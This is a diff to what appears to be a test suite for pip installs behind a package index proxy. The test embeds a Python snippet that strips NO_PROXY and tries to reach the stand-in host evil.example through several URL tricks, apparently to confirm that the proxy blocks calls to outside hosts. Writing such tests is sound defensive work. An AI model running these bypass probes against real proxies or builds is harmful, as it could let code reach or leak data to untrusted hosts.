@@ -168,7 +168,7 @@ describe('pip installs', function () {
   it('nothing that a program which is built asks for at other hosts', async () => {
     const asks = `
 import os, urllib.request
-del os.environ['NO_PROXY']
+del os.environ['NO_PROXY'], os.environ['no_proxy']
 index = os.environ['PIP_INDEX_URL'].split('/simple')[0]
 for url in [index + '/-/origin/http/evil.example/80/', index + '//evil.example/', 'http://evil.example/']:
     opener = urllib.request.build_opener(urllib.request.ProxyHandler({'http': index} if url == 'http://evil.example/' else {}))
